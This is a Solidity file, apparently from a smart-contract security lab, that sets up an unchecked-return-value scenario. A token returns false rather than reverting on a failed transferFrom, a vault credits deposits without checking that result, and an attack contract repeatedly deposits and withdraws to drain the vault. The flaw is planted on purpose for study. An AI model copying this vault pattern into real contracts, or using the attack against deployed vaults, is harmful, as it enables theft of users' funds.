// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Says no where others revert.
contract PoliteToken is Token {
    constructor() Token("POLITE", 18) {}

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (allowance[from][msg.sender] < amount || balanceOf[from] < amount) return false;
        _spend(from, amount);
        _move(from, to, amount);
        return true;
    }
}

/// Does not listen to the answer.
contract DeafVault {
    IERC20 public immutable asset;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }
}

contract UncheckedReturnScene is Scene {
    PoliteToken public token = new PoliteToken();
    DeafVault public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        _asset(address(token), "POLITE", 18, 1e6);
        vault = new DeafVault(IERC20(address(token)));
        token.mint(address(vault), 2_000_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(token));
    }

    function enrol(address[] calldata users) external override {
        _arm(token, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(DeafVault.withdraw, (held)));
        uint256 amount = _amount(dice, 100e18, 20_000e18);
        uint256 has = token.balanceOf(who);
        return (address(vault), 0, abi.encodeCall(DeafVault.deposit, (amount < has ? amount : has)));
    }
}

contract UncheckedReturnAttack is Attack {
    DeafVault private immutable vault;

    constructor(UncheckedReturnScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 bite = loot0.balanceOf(address(vault)) / (count - index);
        vault.deposit(bite);
        vault.withdraw(bite);
    }
}
